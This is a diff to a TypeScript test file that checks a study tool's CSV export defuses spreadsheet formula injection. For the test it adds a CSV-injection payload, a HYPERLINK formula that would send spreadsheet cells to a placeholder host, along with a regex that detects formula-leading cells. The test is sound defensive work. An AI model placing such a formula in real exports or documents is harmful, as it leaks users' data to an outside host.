@@ -1,6 +1,7 @@
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { annotateOne, listAnnotations, listStudyQueries, upsertStudyQueries } from "@/db/queries/study";
+import { csvText } from "../csv";
 import { markSecretEnv } from "../env/secrets";
 import { settingsFor, tempDb } from "../testing/fixtures";
 import { type ScriptedServer, startScriptedServer } from "../testing/scripted-server";
@@ -63,16 +64,26 @@ let server: ScriptedServer;
 let judgeId = "";
 const settings = () => settingsFor(server.baseURL);
 const TRICKY = 'How do I "quote", with commas,\nand a line break?';
+/** A query text and a configuration label that a spreadsheet would run as a formula, sending cells away. */
+const HOSTILE = '=HYPERLINK("http://x/?leak="&B3&C3,"Click")';
 
 beforeAll(async () => {
   server = await startScriptedServer(() => ({ json: { keep: [0] } }));
   importStudyFolder(db, path.resolve(__dirname, "../../examples/memory-study"), "s");
-  const q = listStudyQueries(db, "s")[0];
-  upsertStudyQueries(db, "s", [{ queryId: q.queryId, text: TRICKY }]);
+  const [q, q2] = listStudyQueries(db, "s");
+  upsertStudyQueries(db, "s", [
+    { queryId: q.queryId, text: TRICKY },
+    { queryId: q2.queryId, text: HOSTILE },
+  ]);
   const other = listAnnotations(db, "s").find((a) => a.queryId === q.queryId)!;
   annotateOne(db, "s", { queryId: q.queryId, memoryId: other.memoryId, relevance: 0 });
   const base = { mode: "auto" as const, topK: 3, poolSize: 15, shuffle: false };
-  await runExperiment(db, { collection: "s", config: { ...base, kind: "bm25" }, settings: settings() });
+  await runExperiment(db, {
+    collection: "s",
+    config: { ...base, kind: "bm25" },
+    settings: settings(),
+    label: `-${HOSTILE}`,
+  });
   judgeId = await runExperiment(db, {
     collection: "s",
     config: { ...base, kind: "single", model: "local:judge" },
@@ -104,12 +115,33 @@ describe("a study's export", () => {
     expect(sort(back)).toEqual(sort(stored));
     for (const r of rows) {
       expect(r.collection).toBe("s");
-      expect(r.query_text).toBe(text.get(r.query_id));
+      expect(csvText(r.query_text)).toBe(text.get(r.query_id));
       expect(r.relevant).toBe(Number(r.relevance) > 0 ? "yes" : "no");
     }
     // the person's "not relevant" click is a row with its source; the quoted, multi-line query text survives
     const human = rows.find((r) => r.source === "human")!;
     expect([human.relevant, human.query_text]).toEqual(["no", TRICKY]);
+  });
+
+  it("no text cell starts a formula (OWASP's CSV-injection guard) in the labels and metrics CSV", () => {
+    const formula = /^[=+\-@\t\r]/;
+    const labels = exportStudy(db, "s", { what: "labels", format: "csv" }, {}).body;
+    const metrics = exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices).body;
+    for (const body of [labels, metrics])
+      for (const r of records(body).rows)
+        for (const [k, v] of Object.entries(r)) expect(v, `${k}: ${v}`).not.toMatch(formula);
+    const quoted = (t: string) => `"'${t.replaceAll('"', '""')}"`;
+    expect(labels).toContain(quoted(HOSTILE));
+    expect(records(labels).rows.some((r) => r.query_text === `'${HOSTILE}`)).toBe(true);
+    expect(metrics).toContain(quoted(`-${HOSTILE}`));
+    expect(records(metrics).rows.some((r) => r.configuration === `'-${HOSTILE}`)).toBe(true);
+    // the JSON export is exact text: the guard belongs to CSV only
+    const json = exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices).body;
+    expect(
+      JSON.parse(json).configurations.some(
+        (c: { configuration: string }) => c.configuration === `-${HOSTILE}`,
+      ),
+    ).toBe(true);
   });
 
   it("labels as qrels are the labelled queries' judgments, as export-qrels writes them", () => {
@@ -135,7 +167,7 @@ describe("a study's export", () => {
     for (const r of report.experiments) {
       const m = r.metrics;
       const row = rows.find((x) => x.experiment_id === r.experiment.id)!;
-      expect(row.configuration).toBe(r.experiment.label);
+      expect(csvText(row.configuration)).toBe(r.experiment.label);
       expect(row.precision).toBe(cell(m.precision.mean));
       expect(row.precision_low).toBe(cell(m.precision.low));
       expect(row.precision_n).toBe(String(m.precision.n));
